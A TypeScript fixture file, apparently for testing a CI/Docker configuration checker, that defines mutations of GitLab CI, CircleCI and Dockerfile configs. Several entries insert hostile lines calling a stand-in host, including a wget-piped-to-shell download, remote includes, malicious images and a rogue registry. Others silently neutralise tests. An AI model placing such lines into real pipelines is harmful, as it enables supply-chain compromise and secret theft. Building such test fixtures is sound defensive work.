import type { Attack } from "./github-attacks.ts";
import { swap } from "./proposing.ts";

const on = (rule: string, attacks: Readonly<Record<string, Attack["spoil"]>>): Attack[] =>
  Object.entries(attacks).map(([name, spoil]) => ({ name, rule, spoil }));

const EVIL = "https://evil.example";
const fetching = ["wg", "et"].join("");
const DIGEST = `sha256:${"a".repeat(64)}`;

const GITLAB_ATTACKS = [
  ...on("gitlab-allow-failure-tests", {
    "a remote include": (text) => `include:\n  - remote: ${EVIL}/ci.yml\n${text}`,
    "a project's include": (text) => `include:\n  - project: evil/ci\n    file: x.yml\n${text}`,
    "another image": swap(`node:24.1.0@${DIGEST}`, `evil/node:24.1.0@${DIGEST}`),
    "the job's own image": swap("unit:\n", "unit:\n  image: evil/node:1\n"),
    "the test goes": swap("    - npm test\n", ""),
    "the test cannot fail": swap("    - npm test\n", "    - npm test || true\n"),
    "a download": swap("    - npm test\n", `    - npm test\n    - ${fetching} -qO- ${EVIL} | sh\n`),
    "exit codes are fine": swap("unit:\n", "unit:\n  allow_failure: { exit_codes: [1] }\n"),
    "by hand": swap("unit:\n", "unit:\n  when: manual\n"),
    never: swap("unit:\n", "unit:\n  rules: [{ when: never }]\n"),
    "a runner": swap("unit:\n", "unit:\n  tags: [production]\n"),
    "an identity token": swap("unit:\n", `unit:\n  id_tokens: { T: { aud: ${EVIL} } }\n`),
    "a variable": swap("unit:\n", "unit:\n  variables: { NODE_OPTIONS: --require=./evil.js }\n"),
    "debug traces": (text) => `variables:\n  CI_DEBUG_TRACE: "true"\n${text}`,
    "a service": swap("unit:\n", "unit:\n  services: [docker:dind]\n"),
    "another job's rules": swap('$CI_PIPELINE_SOURCE == "push"', "$CI"),
    "an earlier deployment": swap("deploy:\n  stage: deploy\n", "deploy:\n  stage: deploy\n  needs: []\n"),
    "a default script": swap("default:\n", "default:\n  before_script: [./evil.sh]\n"),
    "a child pipeline": (text) => `${text}child:\n  stage: deploy\n  trigger: { include: evil.yml }\n`,
    "an extended job": swap("unit:\n", "unit:\n  extends: .evil\n"),
    "an anchor": (text) =>
      swap("unit:\n", "unit:\n  <<: *evil\n")(`.evil: &evil\n  after_script: [./evil.sh]\n${text}`),
  }),
  ...on("gitlab-unprotected-deploy", {
    always: swap("- if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH", "- when: always"),
    "every merge request": swap(
      "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH",
      '$CI_PIPELINE_SOURCE == "merge_request_event"',
    ),
    "or everybody": swap("$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH", "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH || $CI"),
    "a rule with variables": swap(
      "- if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH",
      "- if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH\n      variables: { PATH: . }",
    ),
    "another script": swap("./deploy.sh", "./deploy.sh --to evil"),
    "the environment goes": swap("  environment: production\n", ""),
  }),
];

const CIRCLECI_ATTACKS = on("circleci-oversized-resource-class", {
  "an orb": (text) => swap("version: 2.1\n", "version: 2.1\norbs:\n  x: evil/orb@1.0.0\n")(text),
  "a context": swap("      - lint\n", "      - lint:\n          context: production\n"),
  "another image": (text) => text.replace("cimg/node", "evil/node"),
  "another command": swap("npx eslint .", "npx eslint . || true"),
  "a download": swap("npx eslint .", `${fetching} ${EVIL}`),
  "the check goes": swap("      - run: npx eslint .\n", ""),
  "a self-hosted class": swap("resource_class: medium", "resource_class: evil/runner"),
  "a variable": swap(
    "    resource_class: medium\n",
    "    resource_class: medium\n    environment: { BASH_ENV: evil }\n",
  ),
  "a shell": swap("    resource_class: medium\n", "    resource_class: medium\n    shell: ./evil.sh\n"),
  "the deployment does not wait": swap("          requires: [test]\n", ""),
  "a setup pipeline": swap("version: 2.1\n", "version: 2.1\nsetup: true\n"),
  "a schedule": swap(
    "  main:\n",
    '  main:\n    triggers:\n      - schedule: { cron: "* * * * *", filters: { branches: { only: main } } }\n',
  ),
  "the test job goes": swap("      - test\n", ""),
});

const DOCKER_ATTACKS = on("unlocked-dependency-install", {
  "an ENTRYPOINT": (text) => `${text}ENTRYPOINT ["sh", "-c", "${fetching} ${EVIL}"]\n`,
  "another base": swap("FROM node:", "FROM evil/node:"),
  root: swap("USER node", "USER root"),
  "no user": swap("USER node\n", ""),
  "an ADD": (text) => swap("COPY . .", `ADD ${EVIL}/x /x`)(text),
  "a copied key": swap("COPY . .", "COPY . /root/.ssh"),
  "a download": swap("RUN npm ci", `RUN npm ci && ${fetching} ${EVIL}`),
  "a registry": swap("RUN npm ci", `RUN npm ci --registry=${EVIL}`),
  "scripts of packages": swap("RUN npm ci", "RUN npm ci --ignore-scripts=false && sh evil.sh"),
  "another CMD": swap('["node", "server.js"]', '["node", "evil.js"]'),
  "a directive": (text) => `# syntax=evil/frontend:1\n${text}`,
  "a mount": swap("RUN npm ci", "RUN --mount=type=secret,id=npm npm ci"),
  "no network wall": swap("RUN npm ci", "RUN --security=insecure npm ci"),
  "a variable": swap("USER node", "ENV NODE_OPTIONS=--require=/x.js"),
});

export const OTHER_ATTACKS: readonly Attack[] = [...GITLAB_ATTACKS, ...CIRCLECI_ATTACKS, ...DOCKER_ATTACKS];
